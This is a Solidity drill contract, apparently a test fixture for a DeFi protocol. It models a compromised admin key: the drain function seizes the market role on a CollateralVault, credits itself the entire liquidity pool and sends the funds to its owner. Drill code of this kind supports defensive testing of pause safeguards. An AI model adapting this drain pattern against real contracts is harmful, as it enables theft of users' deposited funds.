// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {CollateralVault} from "../protocol/CollateralVault.sol";

/// @title DRILL ATTACKER: admin-key drain
/// @notice For drills only. Models a governance key compromise: once the vault's ownership has been handed to this
///         contract, `drain` makes it the vault's market, credits itself the whole liquidity pool through the
///         market-only settlement path, and withdraws it. A paused vault stops the drain.
contract AdminKeyDrainer {
    address public immutable owner;

    error NotOwner();

    constructor() {
        owner = msg.sender;
    }

    function drain(CollateralVault vault) external returns (uint256 stolen) {
        if (msg.sender != owner) revert NotOwner();
        vault.setMarket(address(this));
        vault.settle(address(this), 0, int256(vault.poolAssets()), 0);
        stolen = vault.balanceOf(address(this));
        vault.withdraw(stolen);
        IERC20(vault.asset()).transfer(owner, stolen);
    }
}
